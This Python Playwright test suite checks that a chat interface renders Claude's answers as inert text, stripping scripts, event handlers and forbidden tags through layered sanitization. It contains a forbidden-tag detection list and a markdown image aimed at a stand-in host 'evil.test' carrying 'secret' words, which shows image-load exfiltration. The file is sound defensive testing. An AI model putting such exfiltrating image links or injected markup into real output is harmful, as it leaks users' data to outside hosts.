"""What Claude says is not trusted: whatever it is, it is shown, and does nothing."""

import json

import pytest
from playwright.sync_api import expect

from tests.browser.samples import HTML, HUGE, MARKDOWN
from tests.browser.service import Service
from tests.browser.visitor import Visitor

pytestmark = pytest.mark.browser

FORBIDDEN = """
(root) => {
  const tags = "script,style,iframe,object,embed,form,meta,link,base,svg,math,img,video,audio," +
    "template,input,noscript";
  const found = [];
  for (const one of root.querySelectorAll(".answer *")) {
    const ours = one.closest(".code-bar");
    if (one.matches(tags) && !ours) found.push(one.outerHTML);
    for (const { name, value } of one.attributes) {
      if (/^on|^style$|^id$|^name$/.test(name)) found.push(one.outerHTML);
      if (name === "href" && !ours && !/^(https?:|mailto:)/.test(value)) found.push(one.outerHTML);
    }
  }
  return found;
}
"""
WATCH = f"""
window.pwned = () => console.error("pwned");
window.seen = [];
addEventListener("DOMContentLoaded", () => {{
  const forbidden = {FORBIDDEN};
  new MutationObserver(() => window.seen.push(...forbidden(document)))
    .observe(document.getElementById("turns"), {{ childList: true, subtree: true }});
}});
"""


@pytest.mark.parametrize("with_policy", [True, False], ids=["with policy", "without"])
def test_hostile_answers_are_harmless_while_they_grow_and_when_they_end(
    visitor: Visitor, service: Service
) -> None:
    visitor.page.add_init_script(WATCH)
    visitor.sign_in(remember=True)
    samples = [*HTML, *MARKDOWN]
    for sample in samples:
        service.claude.plan([{"text": f"Before. {sample} after.\n\n{sample}\n\nEnd."}])
        visitor.ask("Say it")
        expect(visitor.answer).to_contain_text("End.")
        visitor.finished()
    assert visitor.page.evaluate("window.seen") == []
    visitor.page.reload()
    expect(visitor.page.locator(".turn")).to_have_count(len(samples))
    assert visitor.page.evaluate("window.seen") == []
    assert visitor.page.evaluate(f"({FORBIDDEN})(document)") == []
    for link in visitor.page.locator(".answer a").all()[:20]:
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("target") == "_blank"


def test_html_in_an_answer_is_shown_as_what_it_is(visitor: Visitor, service: Service) -> None:
    text = "Put <script> before </body>; a<br>b H<sub>2</sub>O.\n\n<div class=x>shown</div>"
    service.claude.plan([{"text": text}])
    visitor.sign_in()
    visitor.ask("How?")
    visitor.finished()
    expect(visitor.answer).to_contain_text("Put <script> before </body>")
    expect(visitor.answer).to_contain_text("<div class=x>shown</div>")
    expect(visitor.answer.locator("sub")).to_have_text("2")


def test_images_are_links_because_loading_one_tells_on_the_reader(
    visitor: Visitor, service: Service
) -> None:
    service.claude.plan([{"text": "![a cat](https://evil.test/cat.png?words=secret)"}])
    visitor.sign_in()
    visitor.ask("Show")
    visitor.finished()
    link = visitor.answer.get_by_role("link", name="a cat (image)")
    expect(link).to_have_attribute("href", "https://evil.test/cat.png?words=secret")


@pytest.mark.parametrize("with_policy", [False])
def test_the_second_layer_holds_alone(visitor: Visitor) -> None:
    """As if the first, which shows HTML as text, had a hole, and the policy too."""
    visitor.page.add_init_script(WATCH)
    visitor.visit()
    left = visitor.page.evaluate(
        """async (samples) => {
          const { harmless } = await import(new URL("page/markdown.js", document.baseURI));
          const answer = document.createElement("div");
          answer.className = "answer";
          document.getElementById("turns").append(answer);
          for (const sample of samples) answer.append(harmless(sample));
          return answer.innerHTML;
        }""",
        HTML,
    )
    assert visitor.page.evaluate(f"({FORBIDDEN})(document)") == [], json.dumps(left)
    assert visitor.page.evaluate("window.seen") == []


@pytest.mark.parametrize("name", HUGE)
def test_what_is_nested_without_end_is_shown_and_the_page_lives(
    visitor: Visitor, service: Service, name: str
) -> None:
    service.claude.plan([{"text": HUGE[name]}])
    visitor.sign_in()
    visitor.ask("Go")
    visitor.finished()
    expect(visitor.answer).to_contain_text("end")
    visitor.ask("Still there?")
    visitor.finished()
